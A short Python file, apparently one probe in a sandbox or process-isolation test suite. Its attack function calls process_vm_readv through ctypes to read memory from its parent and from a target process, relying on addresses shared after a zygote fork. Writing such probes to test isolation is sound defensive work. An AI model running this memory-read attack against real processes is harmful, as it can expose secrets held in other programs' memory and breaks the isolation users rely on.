"""Reads its parent's memory."""
import ctypes, os

def attack(machine):
    libc = ctypes.CDLL(None, use_errno=True)
    class Part(ctypes.Structure):
        _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]
    buffer = ctypes.create_string_buffer(8)
    mine = Part(ctypes.addressof(buffer), 8)
    # The zygote forked us: what is at an address here is there too.
    theirs = Part(id(os), 8)
    for pid in (os.getppid(), machine["pid"]):
        if libc.process_vm_readv(pid, ctypes.byref(mine), 1, ctypes.byref(theirs), 1, 0) > 0:
            return f"GOT memory of {pid}"
    raise PermissionError
